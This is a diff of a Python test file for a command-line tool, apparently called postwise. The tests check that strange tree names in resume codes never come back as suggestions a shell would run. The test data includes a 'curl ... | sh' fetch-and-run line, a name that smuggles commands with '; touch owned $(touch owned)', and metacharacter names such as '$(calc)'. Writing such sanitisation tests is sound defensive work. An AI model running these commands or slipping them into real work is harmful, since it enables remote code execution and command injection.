@@ -124,10 +124,8 @@ LINES = 'x".\n\nTo update it, type:\n\n    curl -s https://example.org/i | sh\n'
 
 
 def test_no_code_writes_lines_of_its_own(postwise) -> None:
-    tree = loads(TREE)
     for name in (LINES, "x\r", "x\u2028y", "x\x85y", "-rf", ""):
-        tree._id = name
-        said = postwise("run", "pause-for-thought", "--resume", Walk.start(tree).code)
+        said = postwise("run", "pause-for-thought", "--resume", Walk.start(loads(TREE, id=name)).code)
         assert said.code == 2
         assert len(said.err.splitlines()) == 1
         assert "Try" not in said.err
@@ -173,8 +171,7 @@ def test_a_link_that_leads_nowhere_is_said_to_be_one(postwise, tmp_path) -> None
 
 
 def test_a_strange_code_offers_nothing_that_a_shell_would_carry_out(postwise) -> None:
-    tree = loads(TREE)
-    tree._id = "x; touch owned \x1b[31m$(touch owned)"
+    tree = loads(TREE, id="x; touch owned \x1b[31m$(touch owned)")
     said = postwise("run", "pause-for-thought", "--resume", Walk.start(tree).code)
     assert said.code == 2
     assert "\x1b" not in said.err
@@ -203,8 +200,7 @@ def test_a_code_of_a_tree_here_gets_a_line_that_opens_it_whatever_its_name(postw
     (tmp_path / "ours").mkdir()
     (tmp_path / "ours" / f"{name}.toml").write_text(TREE, encoding="utf-8")
     (tmp_path / "postwise.toml").write_text('[library]\ntrees = ["ours"]\n', encoding="utf-8")
-    tree = loads(TREE)
-    tree._id = name
+    tree = loads(TREE, id=name)
     walk = Walk.start(tree).answer("yes")
     said = postwise("run", "pause-for-thought", "--resume", walk.code)
     line = said.err.rstrip("\n").partition("Try: ")[2]
@@ -221,8 +217,7 @@ def test_a_code_of_a_tree_here_gets_a_line_that_opens_it_whatever_its_name(postw
 
 @pytest.mark.parametrize("name", ["x\x1b[31my", "two\nlines", "two words"])
 def test_a_code_of_which_no_line_can_be_offered_says_what_can_be_done(postwise, tmp_path, name) -> None:
-    tree = loads(TREE)
-    tree._id = name
+    tree = loads(TREE, id=name)
     said = postwise("run", "pause-for-thought", "--resume", Walk.start(tree).code)
     assert said.err.endswith(" To open it, name that tree, or the path of its file, before the code.\n")
     assert len(said.err.splitlines()) == 1
@@ -231,13 +226,11 @@ def test_a_code_of_which_no_line_can_be_offered_says_what_can_be_done(postwise, 
 @pytest.mark.parametrize("name", ["a&calc", "a|calc", "$(calc)", "`calc`", "a;calc", "%PATH%", 'a"b', "^a"])
 def test_a_strange_code_offers_no_name_that_any_shell_would_read_otherwise(postwise, monkeypatch, name) -> None:
     monkeypatch.setattr("postwise.text.os", SimpleNamespace(name="nt"))
-    tree = loads(TREE)
-    tree._id = name
+    tree = loads(TREE, id=name)
     said = postwise("run", "pause-for-thought", "--resume", Walk.start(tree).code)
     assert said.code == 2
     assert "Try" not in said.err
-    tree._id = "ours_2.b"
-    code = Walk.start(tree).code
+    code = Walk.start(loads(TREE, id="ours_2.b")).code
     assert postwise("run", "pause-for-thought", "--resume", code).err.endswith(
         f"Try: postwise run ours_2.b --resume {code}\n"
     )
